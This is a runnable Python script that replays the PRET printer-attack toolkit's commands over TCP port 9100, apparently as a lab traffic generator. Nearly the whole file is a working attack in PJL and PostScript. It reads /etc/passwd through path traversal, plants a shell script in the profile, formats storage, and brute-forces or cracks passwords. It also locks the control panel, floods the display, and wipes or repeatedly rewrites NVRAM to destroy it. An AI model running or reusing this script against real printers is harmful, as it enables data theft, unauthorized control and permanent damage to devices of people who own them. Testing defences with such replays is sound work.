#!/usr/bin/python3
"""PRET's real byte sequences, sent to a printer: what RUB-NDS/PRET writes on the wire for its
commands, read from its source (pjl.py, postscript.py, helper.py at commit 7e910f5; GPL-2.0,
none of its code is copied here). PRET itself is not packaged in Debian and needs Python 2, so
the lab replays its framing and commands instead:

  PJL mode  cmd(s, wait): UEL + s + CRLF [+ "@PJL INFO STATUS" CRLF] [+ "@PJL ECHO DELIMITER<n>"
            CRLF CRLF, when a reply is awaited] + UEL; the reply is read up to the token.
  PS mode   cmd(s): UEL + "@PJL ENTER LANGUAGE = POSTSCRIPT\\n%!\\n" + s +
            "\\n(DELIMITER<n>\\n) print flush\\n" (no closing UEL; the next command starts one).

usage: pret_client.py HOST pjl|ps [SEGMENT]   SEGMENT: write at most this many bytes per TCP
segment (PRET sends whole commands; a small value models tools that write 7 or 9 bytes).
"""
import random
import socket
import sys
import time

UEL = b"\x1b%-12345X"
EOL = b"\r\n"
PS_HEADER = b"@PJL ENTER LANGUAGE = POSTSCRIPT\n%!\n"
PS_GLOBAL = b"true 0 startjob pop\n"
PS_SUPER = b"\n1183615869 internaldict /superexec get exec"


class Conn:
    def __init__(self, host, segment):
        self.s = socket.create_connection((host, 9100), timeout=3)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.segment = segment
        self.rng = random.Random(1)

    def send(self, data):
        if not self.segment:
            self.s.sendall(data)
            return
        for i in range(0, len(data), self.segment):
            self.s.sendall(data[i:i + self.segment])
            time.sleep(0.002)  # let each write leave as its own segment

    def recv_until(self, token):
        data = b""
        deadline = time.time() + 3
        while token not in data and time.time() < deadline:
            try:
                chunk = self.s.recv(65536)
            except socket.timeout:
                break
            if not chunk:
                break
            data += chunk
        return data

    def token(self):
        return b"DELIMITER%d" % self.rng.randrange(2 ** 16)

    def pjl(self, cmd, wait=True):
        token = self.token()
        footer = b"@PJL ECHO " + token + EOL + EOL if wait else b""
        self.send(UEL + cmd + EOL + footer + UEL)
        return self.recv_until(token) if wait else b""

    def ps(self, cmd):
        token = self.token()
        self.send(UEL + PS_HEADER + cmd + b"\n(" + token + b"\\n) print flush\n")
        return self.recv_until(token)


def pjl_session(c):
    c.pjl(b"@PJL USTATUSOFF", False)                                   # on_connect
    c.pjl(b"@PJL INFO ID")                                             # id
    c.pjl(b"@PJL INFO VARIABLES")                                      # env
    c.pjl(b"@PJL INFO FILESYS")                                        # df
    c.pjl(b'@PJL FSDIRLIST NAME="0:/" ENTRY=1 COUNT=65535')            # ls
    c.pjl(b'@PJL FSQUERY NAME="0:/../../etc/passwd"')                  # get: file_exists
    c.pjl(b'@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=11')  # get
    data = b"#!/bin/sh\necho pwned\n"
    c.pjl(b"@PJL FSDOWNLOAD FORMAT:BINARY SIZE=" + str(len(data)).encode() +
          b' NAME="0:/../../rw/var/etc/profile"' + EOL + data, False)  # put
    c.pjl(b"@PJL SET SERVICEMODE=HPBOISEID" + EOL + b"@PJL DEFAULT PAGES=1" + EOL +
          b"@PJL SET PAGES=1" + EOL + b"@PJL SET SERVICEMODE=EXIT", False)  # pagecount / set
    c.pjl(b'@PJL FSINIT VOLUME="0"', False)                            # format
    c.pjl(EOL.join(b"@PJL DEFAULT COPIES=%d" % (n % 98) for n in range(2, 100)) +
          EOL + b"@PJL INFO ID")                                       # destroy (one batch)
    c.pjl(b"@PJL DINQUIRE PASSWORD")                                   # unlock: supported?
    c.pjl(b"".join(b"@PJL JOB PASSWORD=%d" % p + EOL + b"@PJL DEFAULT PASSWORD=0" + EOL
                   for p in range(1, 11)) + b"@PJL DINQUIRE PASSWORD")  # unlock (one chunk)
    c.pjl(b'@PJL RDYMSG DISPLAY="' + b"0" * 10000 + b'"', False)       # flood
    c.pjl(b'@PJL RDYMSG DISPLAY="PRET was here"', False)               # display
    c.pjl(b'@PJL DMCMD ASCIIHEX="040006020501010301040104"', False)    # restart
    c.pjl(b"@PJL DEFAULT PASSWORD=4242" + EOL + b"@PJL DEFAULT CPLOCK=ON" + EOL +
          b"@PJL DEFAULT DISKLOCK=ON", False)                          # lock
    c.pjl(b"@PJL DINQUIRE CPLOCK")                                     # lock: show_lock
    c.pjl(b"@PJL SET SERVICEMODE=HPBOISEID" + EOL + b"@PJL DEFAULT HOLD=ON" + EOL +
          b"@PJL SET HOLD=ON" + EOL + b"@PJL SET SERVICEMODE=EXIT", False)  # hold
    c.pjl(b'@PJL OPMSG DISPLAY="OUT OF ORDER"', False)                 # offline
    c.pjl(b"@PJL SET TESTPAGE=SELFTEST", False)                        # selftest
    c.pjl(b"@PJL EXECUTE MAINTENANCEPRINT" + EOL + b"@PJL EXECUTE TESTPRINT", False)
    c.pjl(b"@PJL RNVRAM ADDRESS=0")                                    # nvram read
    c.pjl(b"@PJL SUPERUSER PASSWORD=0" + EOL + b"@PJL WNVRAM ADDRESS=0 DATA=0" + EOL +
          b"@PJL SUPERUSEROFF", False)                                 # nvram write
    c.pjl(b'@PJL DMCMD ASCIIHEX="040006020501010301040106"', False)    # reset
    c.pjl(b"@PJL SET SERVICEMODE=HPBOISEID" + EOL + b"@PJL CLEARNVRAM" + EOL + b"@PJL NVRAMINIT" +
          EOL + b"@PJL INITIALIZE" + EOL + b"@PJL SET SERVICEMODE=EXIT", False)
    c.pjl(b"@PJL INITIALIZE" + EOL + b"@PJL RESET" + EOL + b"@PJL EXECUTE SHUTDOWN", False)


def ps_session(c):
    c.ps(b"(x1) = (x2) == << /DoPrintErrors false >> setsystemparams")  # on_connect
    c.ps(b"product print")                                             # id
    c.ps(b"{false statusdict /setfilenameextend get exec} stopped\n/str 256 string def "
         b"(%*%../**) {print (\\n) print} str filenameforall")         # ls / find
    c.ps(b"/byte (0) def\n/infile (../../etc/passwd) (r) file def\n{infile read {byte exch 0 "
         b"exch put\n(%stdout) (w) file byte writestring}\n{infile closefile exit} ifelse\n} loop")  # get
    c.ps(b"/outfile (../../rw/var/etc/profile) (w+) file def\noutfile (\\145\\143\\150\\157) "
         b"writestring\noutfile closefile\n")                          # put
    c.ps(b"(../../rw/var/etc/profile) deletefile")                     # delete
    c.ps(b"(a.ps) (b.ps) renamefile")                                  # rename
    c.ps(PS_GLOBAL + b"<< /SystemParamsPassword (0) /StartJobPassword (0) >> setsystemparams")  # lock
    c.ps(b"{<< /Password (0) /SystemParamsPassword (0) >> setsystemparams}" + PS_SUPER)  # unlock
    c.ps(b"/min 0 def /max 1048576 def\nstatusdict begin {min 1 max\n  {dup checkpassword "
         b"{== flush stop}{pop} ifelse} for\n} stopped pop")          # unlock: crack
    c.ps(b"<< /FactoryDefaults true >> setsystemparams")               # reset
    c.ps(b"statusdict begin (%disk0%) () initializedisk end")          # format
    c.ps(PS_GLOBAL + b"userdict /showpage known dup ==\n{userdict /showpage undef}\n"
         b"{/showpage {} def} ifelse")                                 # disable
    c.ps(PS_GLOBAL + b"/value {currentsystemparams /WaitTimeout get} def\n/count 0 def "
         b"/new {count 2 mod 30 add} def\n{ << /WaitTimeout new >> setsystemparams\n"
         b"  /count count 1 add def % increment\n  value count 100 eq {exit} if\n} loop")  # destroy
    c.ps(PS_GLOBAL + b"systemdict /quit get exec")                     # restart


def main():
    host, mode = sys.argv[1], sys.argv[2]
    segment = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    c = Conn(host, segment)
    (pjl_session if mode == "pjl" else ps_session)(c)
    c.s.shutdown(socket.SHUT_WR)
    c.recv_until(b"\x00never")
    c.s.close()


if __name__ == "__main__":
    main()
